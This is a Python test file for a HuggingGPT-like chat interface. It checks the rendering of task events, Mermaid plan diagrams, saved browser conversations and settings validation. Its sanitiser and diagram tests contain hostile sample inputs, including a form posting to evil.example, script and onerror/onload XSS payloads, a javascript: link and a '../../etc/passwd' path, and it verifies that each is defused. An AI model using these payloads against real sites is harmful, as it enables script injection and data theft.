"""The chat's rendering without a server: events to one nested turn, the plan diagram, the HTML
allow-list, this browser's saved conversations and the Settings panel's field checks."""

import re
import time
from pathlib import Path

from fakes.endpoints import FakeEndpoint

from hugginggpt.catalog import Catalog
from hugginggpt.config import Settings
from hugginggpt.files.artifacts import Artifact
from hugginggpt.run.events import (
    AnswerDelta,
    Done,
    ErrorKind,
    ModelSelected,
    Outcome,
    Phase,
    PlanReady,
    PlanRejected,
    Stage,
    StageStarted,
    TaskFailed,
    TaskFinished,
    TaskPlanned,
    TaskProgress,
    TaskSkipped,
    TaskStarted,
)
from hugginggpt.stages.plan import Plan, Task
from webui.chat.plan_graph import plan_mermaid
from webui.chat.render import RunView, model_link, plan_markdown, user_messages
from webui.chat.safe_html import clean
from webui.host.session_settings import LLMChoice
from webui.page import saved, status
from webui.page.settings_panel import field_problems, status_for

PLAN = Plan(
    [
        Task(0, "object-detection", [-1], {"image": "street.png"}),
        Task(1, "image-to-text", [0], {"image": "<resource>-0"}),
        Task(2, "text-to-image", [1], {"text": "<resource>-1"}),
        Task(3, "text-to-speech", [1], {"text": "<resource>-1"}),
    ]
)


def read(title):
    return re.sub(r"<[^>]+>", "", title or "")


def by_title(view):
    return {read(m["metadata"]["title"]): m for m in view.messages if m.get("metadata")}


def run_view(tmp_path, *, rejected=True):
    clock = iter(range(1000))
    view = RunView("r1", clock=lambda: float(next(clock)))
    view.feed(StageStarted(Stage.PLAN))
    if rejected:
        view.feed(PlanRejected(1, ["task 0: argument 'image' names 'b.png', which is not a file here"]))
    view.feed(PlanReady(PLAN, 2 if rejected else 1))
    view.feed(StageStarted(Stage.SELECT))
    view.feed(
        ModelSelected(
            0, "object-detection", "facebook/detr-resnet-50", "best boxes", ["facebook/detr-resnet-50", "x/y"]
        )
    )
    view.feed(StageStarted(Stage.EXECUTE))
    view.feed(TaskStarted(0, "object-detection", "facebook/detr-resnet-50"))
    boxes = tmp_path / "boxes.png"
    view.feed(
        TaskFinished(
            0,
            "object-detection",
            "facebook/detr-resnet-50",
            [Artifact("image", path=boxes), Artifact("data", value=[])],
            1.5,
        )
    )
    view.feed(TaskStarted(1, "image-to-text", "a/cap"))
    view.feed(TaskFinished(1, "image-to-text", "a/cap", [Artifact("text", value="a red car")], 0.5))
    view.feed(TaskStarted(2, "text-to-image", "a/paint"))
    view.feed(TaskFailed(2, "text-to-image", "a/paint", "out of memory", final=False))
    view.feed(TaskStarted(2, "text-to-image", "b/paint", attempt=2))
    picture = tmp_path / "car.png"
    view.feed(TaskFinished(2, "text-to-image", "b/paint", [Artifact("image", path=picture)], 3.14))
    view.feed(TaskStarted(3, "text-to-speech", "a/voice"))
    view.feed(
        TaskFailed(3, "text-to-speech", "a/voice", "the <b>voice</b> crashed <form action=x>", final=True)
    )
    view.feed(StageStarted(Stage.RESPOND))
    view.feed(AnswerDelta("Here: <button onclick=x>go</button> "))
    view.feed(AnswerDelta("**done**"))
    view.feed(Done(Outcome.ANSWERED, answer="x", trace_file=tmp_path / "trace.json"))
    return view, boxes, picture


def test_a_request_is_one_turn_a_work_box_nesting_the_plan_and_its_tasks(tmp_path):
    view, boxes, picture = run_view(tmp_path)
    boxes_ = by_title(view)
    work = view.messages[0]
    assert work["metadata"]["id"] == "r1-work" and work["metadata"]["status"] == "done"
    # folded to one summary line: tasks, models, seconds, what failed
    assert re.fullmatch(r"4 tasks · 3 models · \d+\.\d s · ✕ failed 1", read(work["metadata"]["title"]))
    plan = boxes_["Plan: 4 tasks (after 2 attempts)"]
    assert plan["metadata"]["parent_id"] == "r1-work" and plan["metadata"]["id"] == "r1-plan"
    assert "```mermaid" in plan["content"] and "after task 1" in plan["content"]  # the drawing and the list
    assert "attempt 1: task 0: argument 'image' names 'b.png'" in plan["content"]  # the rejection is kept
    tasks = [m for m in view.messages if (m.get("metadata") or {}).get("parent_id") == "r1-plan"]
    assert [read(m["metadata"]["title"]) for m in tasks] == [
        "Task 0 · object-detection · facebook/detr-resnet-50 · ✓ done",
        "Task 1 · image-to-text · a/cap · ✓ done",
        "Task 2 · text-to-image · b/paint · ✓ done",
        "Task 3 · text-to-speech · a/voice · ✕ failed — the voice crashed ",
    ]
    # a failed task says why on its folded line, its markup defused as everywhere in a title
    assert tasks[3]["metadata"]["title"].endswith(
        "✕ failed</span> — the <b>voice</b> crashed <\u200bform action=x>"
    )
    assert all(m["metadata"]["status"] == "done" for m in tasks)  # no spinner left
    assert "log" not in tasks[2]["metadata"]  # the retry note went with the retry
    assert tasks[2]["content"].startswith(
        "[a/paint](https://huggingface.co/a/paint) failed: out of memory; trying"
    )
    assert "Attempt 2: trying [b/paint]" in tasks[2]["content"]
    assert 'class="hg-state hg-failed"' in tasks[3]["metadata"]["title"]  # coloured by CSS
    assert "**Failed:** the <b>voice</b> crashed <\u200bform action=x>" in tasks[3]["content"]
    trace = boxes_["Trace of this request (JSON)"]
    assert trace["metadata"]["parent_id"] == "r1-work" and trace["content"] == {
        "path": str(tmp_path / "trace.json")
    }

    # media under the work box, each captioned with the task that made it
    media = [m for m in view.messages if isinstance(m["content"], list)]
    assert [m["content"][1]["path"] for m in media] == [str(boxes), str(picture)]
    assert media[0]["content"][0] == (
        "*Task 0 · object-detection · facebook/detr-resnet-50 · 1.5 s*"
        " — boxes drawn on street.png: no objects found"
    )
    assert media[1]["content"][0] == "*Task 2 · text-to-image · b/paint · 3.1 s* — from “a red car”"
    assert media[1]["content"][1]["alt_text"] == "Task 2 (text-to-image): a red car"
    assert all("parent_id" not in (m.get("metadata") or {}) for m in media)
    # the answer last, with the LLM's button defused
    assert view.messages[-1] == {
        "role": "assistant",
        "content": "Here: <\u200bbutton onclick=x>go<\u200b/button> **done**",
    }


def test_states_tell_the_truth_skipped_stopped_and_failed_plans():
    clock = iter(range(1000))
    view = RunView("r2", clock=lambda: float(next(clock)))
    view.feed(StageStarted(Stage.PLAN))
    view.feed(PlanReady(PLAN, 1))
    view.feed(TaskFailed(0, "object-detection", "", "no model in the catalog can run object-detection", True))
    view.feed(TaskSkipped(1, "image-to-text", "it needs task 0 (object-detection), which failed"))
    view.feed(TaskStarted(2, "text-to-image", "a/paint"))
    view.feed(Done(Outcome.CANCELLED))
    shown = by_title(view)
    skipped = shown["Task 1 · image-to-text · ↷ skipped — it needs task 0 (object-detection), which failed"]
    assert "**Skipped:** it needs task 0 (object-detection), which failed" in skipped["content"]
    assert "Task 2 · text-to-image · a/paint · ■ stopped" in shown  # running when Stop came
    assert "Task 3 · text-to-speech · ■ stopped" in shown  # never started
    assert read(view.messages[0]["metadata"]["title"]).startswith("■ stopped after")
    assert 't3["3 · text-to-speech<br/>stopped"]:::stopped' in shown["Plan: 4 tasks"]["content"]

    view = RunView("r3")
    view.feed(StageStarted(Stage.PLAN))
    for attempt in (1, 2, 3):
        view.feed(PlanRejected(attempt, [f"problem {attempt}"]))
        assert view.plan_box["metadata"]["log"] == f"attempt {attempt} rejected"  # counts what happened
    error = "No valid plan after 3 attempts. Last problems: problem 3"
    view.feed(Done(Outcome.FAILED, error=error, error_kind=ErrorKind.PLAN))
    assert view.plan_box["metadata"]["title"] == "No valid plan: rejected 3 times"  # agrees with the error
    assert all(f"attempt {n}: problem {n}" in view.plan_box["content"] for n in (1, 2, 3))


def test_only_the_running_task_box_is_open_and_a_finished_one_is_one_line():
    """Gradio draws a box open while its status is "pending" and folded once it is "done"."""
    view = RunView("r5")
    view.feed(PlanReady(PLAN, 1))
    view.feed(TaskStarted(0, "object-detection", "a/detect"))
    view.feed(TaskFinished(0, "object-detection", "a/detect", [Artifact("data", value=[])], 2.14))
    view.feed(TaskStarted(1, "image-to-text", "a/cap"))
    why = "the captioner ran out of memory while it loaded " + "its weights " * 20
    view.feed(TaskFailed(2, "text-to-image", "", why, final=True, seconds=0.0))

    def status():
        return {read(m["metadata"]["title"]): m["metadata"]["status"] for m in view.messages[2:]}

    expected = {
        "Task 0 · object-detection · a/detect · ✓ done": "done",  # folded; Gradio adds "(2.1s)"
        "Task 1 · image-to-text · a/cap · ◔ running": "pending",  # the one open box
        "Task 2 · text-to-image · ✕ failed — " + why[:89] + "…": "done",  # why, cut to one line
        "Task 3 · text-to-speech · ○ waiting": "done",
    }
    assert status() == expected
    assert view._tasks[0]["metadata"]["duration"] == 2.14
    assert why in view._tasks[2]["content"]  # the box says it whole
    view.feed(Done(Outcome.ANSWERED, answer="x"))
    assert all(m["metadata"]["status"] == "done" for m in view.messages if m.get("metadata"))
    assert read(view._tasks[1]["metadata"]["title"]) == "Task 1 · image-to-text · a/cap · ■ not finished"


def test_a_task_box_shows_its_download_then_its_load_in_its_log_line():
    view = RunView("r4")
    view.feed(PlanReady(PLAN, 1))
    view.feed(TaskStarted(2, "text-to-image", "a/paint"))
    box = by_title(view)["Task 2 · text-to-image · a/paint · ◔ running"]
    view.feed(
        TaskProgress(2, "text-to-image", "a/paint", Phase.DOWNLOAD, 1_200_000_000, 4_000_000_000, 35e6, 80)
    )
    assert box["metadata"]["log"] == "downloading 1.2 GB of 4 GB · 35 MB/s · 1 min left"
    view.feed(TaskProgress(2, "text-to-image", "a/paint", Phase.LOAD))
    assert box["metadata"]["log"] == "loading weights"
    view.feed(TaskFailed(2, "text-to-image", "a/paint", "out of memory", True, 3.0))
    view.feed(TaskProgress(2, "text-to-image", "a/paint", Phase.LOAD))  # late, from a timed-out call
    assert "log" not in box["metadata"]  # the line goes as the task ends, and stays gone


def test_the_plan_drawing_stays_the_same_while_the_run_goes_and_shows_the_end_states(tmp_path):
    """A drawing replaced while Mermaid draws it throws in the browser: it changes only at the end."""
    view = RunView("r1")
    view.feed(PlanReady(PLAN, 1))
    drawing = re.compile(r"```mermaid.*?```", re.DOTALL)
    planned = drawing.search(view.plan_box["content"]).group()
    view.feed(
        ModelSelected(0, "object-detection", "facebook/detr-resnet-50", "best", ["facebook/detr-resnet-50"])
    )
    view.feed(TaskStarted(0, "object-detection", "facebook/detr-resnet-50"))
    assert drawing.search(view.plan_box["content"]).group() == planned and ":::planned" in planned
    assert "◔ running" in view.plan_box["content"]  # the list follows the state
    view.feed(TaskFinished(0, "object-detection", "facebook/detr-resnet-50", [], 1.0))
    view.feed(Done(Outcome.ANSWERED, answer="x"))
    final = drawing.search(view.plan_box["content"]).group()
    assert 't0["0 · object-detection<br/>facebook/detr-resnet-50<br/>done"]:::done' in final


def test_a_plan_still_being_written_is_listed_and_drawn_once_whole():
    """While the LLM writes the plan its list fills in task by task; the drawing waits for the whole
    plan, so that no diagram is replaced task by task while Mermaid draws it (issues 20 and 21)."""
    view = RunView("r1")
    view.feed(StageStarted(Stage.PLAN))
    for task in PLAN.tasks[:2]:
        view.feed(TaskPlanned(task))
        assert "**" + task.task + "**" in view.plan_box["content"]
        assert "```mermaid" not in view.plan_box["content"]
    view.feed(PlanReady(PLAN, 1))
    assert "```mermaid" in view.plan_box["content"] and "t3[" in view.plan_box["content"]


def test_a_model_from_a_local_folder_links_to_no_hub_page():
    view = RunView("r1", off_hub=lambda model: model == "tiny/blip")
    view.feed(PlanReady(PLAN, 1))
    view.feed(ModelSelected(0, "object-detection", "tiny/blip", "small", ["tiny/blip", "facebook/detr"]))
    task = next(m for m in view.messages if (m.get("metadata") or {}).get("id") == "r1-task0")
    assert (
        "`tiny/blip` (a local model)" in task["content"] and "huggingface.co/tiny/blip" not in task["content"]
    )
    assert "[facebook/detr](https://huggingface.co/facebook/detr)" in task["content"]


def test_the_plan_diagram_colours_by_state_and_keeps_llm_text_out_of_its_syntax():
    plan = Plan([Task(0, 'evil"]\n  click t0 call alert(1)', [-1], {}), Task(1, "text-to-image", [0, 0], {})])
    graph = plan_mermaid(plan, {0: "done", 1: "failed"}, {1: "org/pa<i>nter"})
    assert graph.startswith("```mermaid\n%%{init: {") and graph.endswith("```")
    assert "\nflowchart TD\n" in graph
    assert graph.count("t0 --> t1") == 1 and "classDef failed fill:#fee2e2" in graph
    assert 't0["0 · evil  click t0 call alert1<br/>done"]:::done' in graph  # quotes, brackets, newlines gone
    assert 't1["1 · text-to-image<br/>org/painter<br/>failed"]:::failed' in graph
    assert plan_mermaid(Plan([]), {}, {}) == ""
    assert "1. **text-to-image** (no arguments) · after task 0, 0 · ✕ failed" in plan_markdown(
        plan, {1: "failed"}
    )
    assert model_link("not a hub id!") == "`not a hub id!`"


def test_llm_html_keeps_formatting_and_links_and_loses_forms_scripts_and_handlers():
    hostile = (
        '<form action="https://evil.example/k"><input name=key><button>Send</button></form>'
        "<iframe src=https://evil.example></iframe><script>alert(1)</script><style>*{}</style>"
        '<img src=x onerror="alert(1)" alt="a cat"><a href="javascript&#58;alert(1)" onclick=x>j</a>'
        '<a href="https://huggingface.co" target=_top>hub</a><textarea></textarea><select></select>'
        "<!-- note --><b>bold</b> <svg onload=alert(1)>"
    )
    safe = clean(hostile)
    for tag in re.findall(r"<(/?[a-zA-Z]+)", safe):  # every tag left is allowed
        assert tag.strip("/").lower() in {"b", "img", "a"}, tag
    assert '<img src="x" alt="a cat">' in safe and "onerror" not in safe
    assert "<a>j</a>" in safe  # the javascript: link lost its href
    assert '<a href="https://huggingface.co">hub</a>' in safe and "target" not in safe
    assert "<\u200bform action=" in safe  # shown as text, not dropped: the reader sees what the LLM wrote
    # markdown survives as markdown: quotes, code with comparisons, autolinks
    markdown = "> a quote\n\n`if a < b && c > d`\n\n<https://huggingface.co>\n\n```python\nx = 1 < 2\n```"
    assert clean(markdown) == markdown
    # linear on hostile input (issue 15: no quadratic pattern on untrusted text)
    started = time.perf_counter()
    for text in ("<a " + "x=1 " * 200_000, "<" * 500_000, "<a href='" + "x" * 500_000, "<b" * 200_000):
        clean(text)
    assert time.perf_counter() - started < 5


def test_a_request_is_a_message_per_file_then_one_of_text():
    assert user_messages("hi <form>", []) == [{"role": "user", "content": "hi <\u200bform>"}]
    *files, words = user_messages("caption", ["/w/a.png", "/w/b.wav"])
    # the text alone: Gradio's pencil (edit the request) edits a message of text only
    assert words == {"role": "user", "content": "caption"}
    assert [m["content"]["path"] for m in files] == ["/w/a.png", "/w/b.wav"]


def test_the_browser_store_keeps_keys_and_settings_only_and_drops_what_it_did_not_write():
    key = saved.new_key()
    store = saved.remember(saved.empty(), key)
    assert saved.keys(store) == [key] and store["current"] == key
    assert store["conversations"] == [{"key": key}]  # no title: it stays on the server
    for _ in range(12):
        store = saved.remember(store, saved.new_key())
    assert len(saved.keys(store)) == saved.MAX_SAVED and key not in saved.keys(store)
    crafted = {
        "current": "../../etc/passwd",
        "conversations": [{"key": "a-session-hash", "title": "x"}, {"key": key, "title": "old"}, "junk"],
        "settings": {"base_url": "http://h/v1", "path": "/etc", "top_k": {"x": 1}},
    }
    assert saved.normal(crafted) == {
        "current": "",
        "conversations": [{"key": key}],  # a store written before titles moved to the server
        "settings": {"base_url": "http://h/v1"},
    }
    assert saved.normal("not a dict") == saved.empty()
    values = {"base_url": "http://h/v1", "model": "m", "mode": "local", "top_k": 3}
    assert "api_key" not in saved.with_settings(store, values, keep_key=False, api_key="sk-1")["settings"]
    assert saved.with_settings(store, values, keep_key=True, api_key="sk-1")["settings"]["api_key"] == "sk-1"
    assert saved.forget(store, store["current"])["current"] == ""
    # The open conversation is listed; switching away keeps it listed if it has something in it.
    opened = saved.open_key(saved.empty(), key)
    assert saved.keys(opened) == [key] and opened["conversations"] == []
    other = saved.new_key()
    assert saved.keys(saved.open_key(opened, other, keep=lambda k: k == key)) == [other, key]
    assert saved.keys(saved.open_key(opened, other)) == [other]  # an empty one is not kept


def test_settings_problems_go_to_the_field_they_concern(tmp_path):
    from webui.chat.engine import ChatApp

    chat = ChatApp(Settings(workdir=str(tmp_path / "ws")), catalog=Catalog([]), endpoint=FakeEndpoint())
    choice = LLMChoice(base_url="ftp://x", model="m", inference="local", top_k=5)
    problems = field_problems(chat.host, choice)
    assert list(problems) == ["base_url"] and "must start with http://" in problems["base_url"]
    line = status_for(chat.host, choice, problems)
    assert "fix the field marked in Settings" in line and "ftp://" not in line
    assert field_problems(chat.host, LLMChoice(base_url="http://127.0.0.1:1/v1")) == {}
    for bad in (0, 99, 2.5):  # top-K: said under its field, and the server's value is used meanwhile
        problems = field_problems(chat.host, LLMChoice(top_k=bad))
        assert list(problems) == ["top_k"] and "a whole number from 1 to 10" in problems["top_k"]
        assert "top-K 5" in status_for(chat.host, LLMChoice(top_k=bad), problems)
    assert field_problems(chat.host, LLMChoice(top_k=3)) == {}
    assert "top-K 3" in status.for_host(chat.host, LLMChoice(top_k=3))


def test_a_page_left_mid_run_keeps_the_turn_it_showed_as_stopped(llm_server, tmp_path):
    from app_support import app_settings, photo

    from webui.chat.engine import ChatApp

    chat = ChatApp(
        app_settings(llm_server, tmp_path / "ws"),
        catalog=Catalog(
            __import__("fakes.endpoints", fromlist=["cards"]).cards(("org/slow", "image-to-text", 1))
        ),
        endpoint=FakeEndpoint(hanging={"org/slow"}, hang=5),
    )
    run = chat.respond(
        "s1", {"text": "[conv-r] caption", "files": [str(photo(tmp_path / "a.png"))]}, LLMChoice()
    )
    for messages, _, _ in run:
        if any("running" in (m.get("metadata") or {}).get("title", "") for m in messages):
            break
    run.close()  # what Gradio does when the page goes away
    conv = chat.conversation("s1", "")
    assert conv.cancel is None and conv.history[0]["content"] == "[conv-r] caption"
    titles = [read((m.get("metadata") or {}).get("title")) for m in conv.display]
    assert (
        "Task 0 · image-to-text · org/slow · ■ stopped" in titles
        and conv.display[-1]["content"] == "Stopped."
    )
    assert Path(conv.workspace.root).is_dir()  # kept for a reload


def test_output_names_in_an_answer_become_links_where_the_file_exists():
    from webui.host.answer_links import link_outputs

    known = {"outputs/r1/task-1/cat.png": "u/cat.png"}
    text = "Drawn: `outputs/r1/task-1/cat.png`, read: outputs/r1/task-2/gone.wav."
    assert link_outputs(text, known.get) == (
        "Drawn: [outputs/r1/task-1/cat.png](u/cat.png), read: outputs/r1/task-2/gone.wav."
    )


def test_when_a_run_ends_the_plan_shows_what_each_task_took_not_its_estimate():
    from hugginggpt.costs.estimate import Estimate
    from hugginggpt.run.events import Estimated
    from hugginggpt.run.records import TaskRecord, TaskStatus

    view = RunView("r1")
    plan = Plan(
        [Task(0, "text-to-image", [-1], {"text": "a cat"}), Task(1, "text-to-speech", [-1], {"text": "hi"})]
    )
    view.feed(PlanReady(plan, 1))
    for i, task, model in ((0, "text-to-image", "a/paint"), (1, "text-to-speech", "a/voice")):
        view.feed(ModelSelected(i, task, model, "best", [model]))
        view.feed(Estimated(i, task, model, Estimate("local:cpu", 0, 1000, 30.0, None)))
    assert "30 s / 1 kB in memory" in view.plan_box["content"]  # before the run: the estimate
    view.feed(TaskStarted(0, "text-to-image", "a/paint"))
    view.feed(TaskFinished(0, "text-to-image", "a/paint", [], 1.2))
    view.feed(TaskFinished(1, "text-to-speech", "a/voice", [], 0.0, cached=True))
    records = (
        TaskRecord(0, "text-to-image", {}, "a/paint", TaskStatus.DONE, seconds=1.2),
        TaskRecord(1, "text-to-speech", {}, "a/voice", TaskStatus.DONE, cached=True),
    )
    view.feed(Done(Outcome.ANSWERED, answer="x", records=records))
    content = view.plan_box["content"]
    assert "30 s" not in content
    assert "a/paint<br/>took 1.2 s<br/>done" in content and "a/voice<br/>from the cache<br/>done" in content


def test_each_reason_is_said_once():
    view = RunView("r1")
    view.feed(PlanReady(PLAN, 1))
    why = "model selection failed: the LLM's reply was not JSON, so the top-ranked candidate runs"
    for t in PLAN.tasks:
        view.feed(ModelSelected(t.id, t.task, f"org/m{t.id}", why if t.id != 2 else "the sharpest", []))
    boxes = [
        m["content"]
        for m in view.messages
        if (m.get("metadata") or {}).get("id", "").endswith(("task0", "task1", "task2", "task3"))
    ]
    assert [b.split("Why: ")[1] for b in boxes] == [why, "as for task 0", "the sharpest", "as for task 0"]
